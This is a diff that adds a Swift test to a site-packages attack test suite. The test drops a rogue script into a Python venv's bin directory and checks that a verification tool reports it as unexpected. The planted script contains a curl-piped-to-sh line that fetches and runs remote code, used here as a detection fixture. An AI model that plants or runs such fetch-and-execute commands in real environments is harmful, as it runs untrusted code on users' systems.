@@ -235,4 +235,19 @@ struct SitePackagesAttackTests {
         let json = try await scenario.verifyJSON(["datatool"])
         json.expect("datatool", .installedFiles, .fail, "modified", base + "/datatool/datatool.h")
     }
+
+    // MARK: the venv's scripts directory
+
+    @Test("a file dropped into the venv's bin/ that no distribution accounts for fails --all")
+    func droppedScript() async throws {
+        let scenario = try await Scenario(packages: ["clitool"])
+        defer { Task { await scenario.stop() } }
+        let clean = try await scenario.verifyJSON(["--all"])
+        #expect(clean.result.status == 0, "the venv's own files are no finding: \(clean.result.output)")
+        let dropped = scenario.venv + "/bin/clitool-helper"
+        try "#!/bin/sh\nexec curl -s http://127.0.0.1:9/ | sh\n".write(toFile: dropped, atomically: true, encoding: .utf8)
+        let json = try await scenario.verifyJSON(["--all"])
+        #expect(json.result.status == 1, "\(json.result.output)")
+        #expect(json.report.unexpected.map(\.path) == [dropped], "\(json.report.unexpected)")
+    }
 }
